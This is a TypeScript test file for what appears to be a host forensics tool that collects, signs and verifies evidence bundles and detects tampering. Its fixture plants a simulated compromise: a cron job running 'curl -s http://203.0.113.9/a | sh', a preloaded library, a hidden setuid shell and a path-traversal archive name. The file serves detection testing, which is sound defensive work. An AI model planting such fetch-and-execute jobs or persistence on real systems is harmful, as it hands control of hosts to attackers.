import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { tarOf } from '../../../../tests/support/tar.ts';
import { zipOf } from '../../../../tests/support/zip.ts';
import { VakthundError } from '../../../base/errors.ts';
import { FolderTree } from '../../tree/folder-tree.ts';
import { inspectHost } from '../inspect-host.ts';
import { openSigningKey, keyId } from '../integrity/keys.ts';
import { runHostQuery } from '../query/host-query.ts';
import type { HostRow } from '../host-row.ts';
import { TableContext } from '../table-context.ts';
import type { Bundle } from './bundle.ts';
import { collectBundle, type CollectOptions } from './collect.ts';
import { openBundle } from './open-bundle.ts';
import { recordTables } from './record-tables.ts';

let folder: string;
let root: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'vakthund-bundle-'));
  root = join(folder, 'root');
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

function put(path: string, content: string | Buffer, mode = 0o644): void {
  const at = join(root, path);
  mkdirSync(dirname(at), { recursive: true });
  writeFileSync(at, content);
  chmodSync(at, mode);
}

/** A root with a job, a preloaded library, a set-id shell, a key and logs. */
function plant(): void {
  put('etc/passwd', 'root:x:0:0::/root:/bin/bash\n');
  put('etc/hostname', 'web1\n');
  put('etc/cron.d/job', '* * * * * root curl -s http://203.0.113.9/a | sh\n');
  put('etc/ld.so.preload', '/usr/lib/x.so\n');
  put('usr/lib/x.so', Buffer.concat([Buffer.from('\u007FELF'), Buffer.alloc(2000, 1)]));
  put('usr/bin/.sh', Buffer.concat([Buffer.from('\u007FELF'), Buffer.alloc(5000, 2)]), 0o4755);
  put(
    'etc/ssh/ssh_host_ed25519_key',
    '-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----\n',
    0o600,
  );
  put('var/log/auth.log', 'Mar  1 10:00:00 web1 sshd[1]: Accepted password for root from 203.0.113.9 port 4 ssh2\n');
  symlinkSync('usr/bin', join(root, 'bin'));
}

const limits = { fileBytes: 2 ** 20, totalBytes: 2 ** 24, seconds: 60 };

async function collect(name: string, more: Partial<CollectOptions> = {}) {
  const path = join(folder, name);
  return { path, ...(await collectBundle(path, { root, scope: undefined, limits, hasLogs: true, ...more })) };
}

const told = (claims: ReturnType<typeof inspectHost>['claims']): object[] =>
  claims.map(({ detector, title, path, severity, score, time }) => ({ detector, title, path, severity, score, time }));

describe('host collect', () => {
  it('takes local programs along with every digest that lists name, and scripts whole', async () => {
    plant();
    const [script, program] = ['#!/bin/sh\ncurl http://203.0.113.9/a\n', `\u007FELF${'x'.repeat(100_000)}`];
    put('usr/local/bin/up', script, 0o755);
    put('opt/kit/bin/kit', program, 0o755);
    const { path } = await collect('b.tar.gz');
    const bundle = await openBundle(path);
    const hex = (name: string, text: string): string => createHash(name).update(text).digest('hex');
    for (const name of ['md5', 'sha1', 'sha256']) {
      expect(bundle.tree.digest?.('/usr/local/bin/up', name)).toBe(hex(name, script));
      expect(bundle.tree.digest?.('/opt/kit/bin/kit', name)).toBe(hex(name, program));
    }
    expect(bundle.tree.read('/usr/local/bin/up')?.toString()).toBe(script);
    bundle.close();
  });

  it('takes along what gives the same verdict elsewhere', async () => {
    plant();
    const { path } = await collect('b.tar.zst');
    const bundle = await openBundle(path);
    const there = told(inspectHost(new FolderTree(root)).claims);
    expect(there.length).toBeGreaterThanOrEqual(3);
    expect(told(inspectHost(bundle.tree, { foreign: bundle.foreign }).claims)).toEqual(there);
    expect(bundle).toMatchObject({
      form: 'vakthund',
      host: 'web1',
      problems: [],
      signedBy: undefined,
      live: undefined,
    });
    expect(bundle.tree.read('/var/log/auth.log')?.toString()).toContain('Accepted password');
    bundle.close();
  });

  it('answers queries about files and packages', async () => {
    plant();
    const bundle = await openBundle((await collect('b.tar.gz')).path);
    const context = new TableContext(bundle.tree, bundle.recorded);
    const ask = async (sql: string) => runHostQuery(sql, context, { timeoutMs: 10_000, maxRows: 10 });
    expect((await ask('SELECT command FROM crontab')).rows).toEqual([['root curl -s http://203.0.113.9/a | sh']]);
    expect((await ask("SELECT mode, size FROM file WHERE path = '/usr/bin/.sh'")).rows).toEqual([['4755', 5004]]);
    expect((await ask('SELECT pid FROM processes')).empty).toHaveLength(1);
    bundle.close();
  });

  it('leaves out private keys, what is too large, and logs that nobody wants, and says so', async () => {
    plant();
    put('var/log/huge.log', Buffer.alloc(3 * 2 ** 20, 65));
    const { manifest, path } = await collect('b.tar.gz', { limits: { ...limits, totalBytes: 2 ** 20 } });
    expect(manifest.refused).toContainEqual({ path: '/var/log/huge.log', why: 'the bundle is full' });
    const names = manifest.members.map(({ name }) => name);
    expect(names).not.toContain('root/etc/ssh/ssh_host_ed25519_key');
    const bundle = await openBundle(path);
    expect(bundle.notChecked).toContainEqual({ what: '/var/log/huge.log', why: 'not collected: the bundle is full' });
    bundle.close();
    const { manifest: small } = await collect('c.tar.gz', { hasLogs: false });
    expect(small.members.some(({ name }) => name.includes('var/log/huge'))).toBe(false);
  });

  it('takes the beginning of a file that is too long for it', async () => {
    plant();
    put('var/log/huge.log', Buffer.alloc(3 * 2 ** 20, 65));
    const { manifest, path } = await collect('b.tar.gz');
    expect(manifest.members).toContainEqual(
      expect.objectContaining({ name: 'root/var/log/huge.log', size: 2 ** 20, of: 3 * 2 ** 20 }),
    );
    const bundle = await openBundle(path);
    const { tree } = bundle;
    expect(tree.read('/var/log/huge.log')).toHaveLength(2 ** 20);
    expect([...tree.absent]).toEqual(['/var/log/huge.log']);
    bundle.close();
  });

  it('takes a log whole of which a technique read the head only', async () => {
    plant();
    put('var/log/.hidden', 'a line of a log\n'.repeat(100), 0o755);
    const bundle = await openBundle((await collect('b.tar.gz')).path);
    expect(bundle.tree.read('/var/log/.hidden')).toHaveLength(1600);
    bundle.close();
  });

  it('stops in time and tells what it had no time for', async () => {
    plant();
    const { manifest } = await collect('b.tar.gz', { limits: { ...limits, seconds: 1e-9 } });
    expect(manifest.notChecked).toContainEqual({ what: 'the inspection', why: 'the time was over' });
  });

  it('writes over nothing', async () => {
    plant();
    await collect('b.tar.gz');
    await expect(collect('b.tar.gz')).rejects.toMatchObject({ code: 'OUTPUT' });
  });

  it('takes the processes of this machine, which can be asked later', async () => {
    plant();
    const bundle = await openBundle((await collect('b.tar.gz', { scope: {} })).path);
    const own = bundle.live?.withPid(process.pid);
    expect(own).toMatchObject({ pid: process.pid, executable: process.execPath });
    const programs = bundle.recorded.tables.get('process_programs') ?? [];
    const [program] = programs.filter(({ pid }) => pid === process.pid);
    expect(program).toMatchObject({ on_disk: 1, path: process.execPath });
    bundle.close();
  });

  it('keeps the tables that only the running machine can fill', async () => {
    plant();
    const context = new TableContext(new FolderTree(root, 'live'));
    const tables = new Map<string, readonly HostRow[]>();
    for await (const { name, rows } of recordTables(context, (what, why) => expect.fail(`${what}: ${why}`))) {
      tables.set(name, rows);
    }
    const later = new TableContext(new FolderTree(root), { tables });
    const sql = `SELECT pid, path FROM processes WHERE pid = ${process.pid}`;
    const { rows, empty } = await runHostQuery(sql, later, { timeoutMs: 10_000, maxRows: 10 });
    expect({ rows, empty }).toEqual({ rows: [[process.pid, process.execPath]], empty: [] });
  });
});

describe('a bundle that was changed', () => {
  it('is refused when the manifest is not what was signed', async () => {
    plant();
    const key = openSigningKey(join(folder, 'key.pem'));
    const { path } = await collect('b.tar.gz', { key });
    const bundle = await openBundle(path);
    expect(bundle.signedBy).toBe(keyId(key));
    bundle.close();
    const bytes = gunzipSync(readFileSync(path));
    const at = bytes.lastIndexOf('"host": "web1"');
    bytes.write('"host": "web2"', at);
    writeFileSync(path, gzipSync(bytes));
    await expect(openBundle(path)).rejects.toMatchObject({ code: 'EVIDENCE_READ' });
  });

  it('says which members are not what they were', async () => {
    plant();
    const { path } = await collect('b.tar.gz');
    const bytes = gunzipSync(readFileSync(path));
    bytes.write('203.0.113.8', bytes.indexOf('203.0.113.9'));
    writeFileSync(path, gzipSync(bytes));
    const bundle = await openBundle(path);
    expect(bundle.problems.map(({ code, message }) => [code, message])).toEqual([
      ['checksum-mismatch', 'the member "root/etc/cron.d/job" is not what the manifest says'],
    ]);
    bundle.close();
  });

  it('never throws anything but a refusal, however it is damaged', async () => {
    plant();
    const { path } = await collect('b.tar.gz');
    const whole = gunzipSync(readFileSync(path));
    const damaged = join(folder, 'damaged.tar');
    const codes = new Set<string>();
    await fc.assert(
      fc.asyncProperty(fc.nat(whole.length - 1), fc.nat(255), fc.boolean(), async (at, value, isCut) => {
        const bytes = Buffer.from(whole);
        bytes[at] = value;
        writeFileSync(damaged, isCut ? bytes.subarray(0, at) : bytes);
        const bundle = await openBundle(damaged).catch((error: unknown) => error);
        if (bundle instanceof VakthundError) {
          codes.add(bundle.code);
          return;
        }
        inspectHost((bundle as Bundle).tree);
        (bundle as Bundle).close();
      }),
      { numRuns: 25 },
    );
    expect([...codes].filter((code) => code !== 'EVIDENCE_READ')).toEqual([]);
  });
});

describe('openBundle', () => {
  it('says what is encrypted', async () => {
    const path = join(folder, 'Collection-web1-2026-03-01T10_00_00Z.zip');
    const zip = zipOf({ 'uploads/auto/etc/passwd': 'x', 'results/Linux.Sys.Pslist.json': '{}\n' });
    // Bit 0 of the general purpose flags, in the directory at the end.
    const entry = zip.indexOf('PK\u0001\u0002');
    zip[entry + 8] = 1;
    writeFileSync(path, zip);
    const bundle = await openBundle(path).catch((error: unknown) => error as VakthundError);
    expect('problems' in bundle ? bundle.problems : bundle).toMatchObject([
      { code: 'unsupported', message: expect.stringContaining('is encrypted') as string },
    ]);
  });

  it('refuses what is none', async () => {
    const path = join(folder, 'x.tar');
    writeFileSync(path, tarOf({ a: 'b' }));
    await expect(openBundle(path)).rejects.toMatchObject({ code: 'EVIDENCE_READ' });
    await expect(openBundle(join(folder, 'none'))).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });

  it('bounds what is unpacked, and skips names that lead outside', async () => {
    const path = join(folder, 'x.tar');
    writeFileSync(path, tarOf({ '../../etc/x': 'a', '[root]/etc/passwd': 'x'.repeat(500), '[root]/etc/b': 'y' }));
    const bundle = await openBundle(path, { members: 10, bytes: 100, textBytes: 100 });
    expect(bundle.problems.map(({ code }) => code)).toEqual(['unsafe-path', 'limit-reached', 'limit-reached']);
    expect(bundle.tree.read('/etc/passwd')).toHaveLength(100);
    bundle.close();
  });
});
